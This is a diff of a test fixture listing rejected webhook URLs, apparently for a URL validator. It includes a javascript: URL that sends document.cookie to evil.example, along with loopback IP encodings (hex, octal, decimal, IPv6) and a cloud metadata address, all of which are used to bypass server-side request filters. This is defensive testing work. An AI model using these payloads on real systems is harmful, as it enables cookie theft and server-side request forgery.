@@ -899,10 +899,11 @@ const METADATA: BadInputCase[] = [
   ...(
     [
       ["a javascript: URL", "javascript:fetch('https://evil.example/'+document.cookie)"],
-      ["plain http", "http://hooks.example.com/invoice"],
-      ["localhost", "https://localhost/admin"],
-      ["a loopback IP literal", "https://127.0.0.1:8080/"],
-      ["the cloud metadata address", "https://169.254.169.254/latest/meta-data/"],
+      // Loopback, private and metadata addresses are refused when a delivery resolves them
+      // (tests/engine/automation, tests/engine/webhooks): the allow-list is per tenant.
+      ["an FTP address", "ftp://hooks.example.com/invoice"],
+      ["a hexadecimal IP literal", "https://0x7f000001/"],
+      ["an octal IP literal", "https://0177.0.0.1/"],
       ["a decimal IP literal", "https://2130706433/"],
       ["an IPv6 literal", "https://[::1]/"],
       ["credentials in the URL", "https://user:secret@hooks.example.com/"],
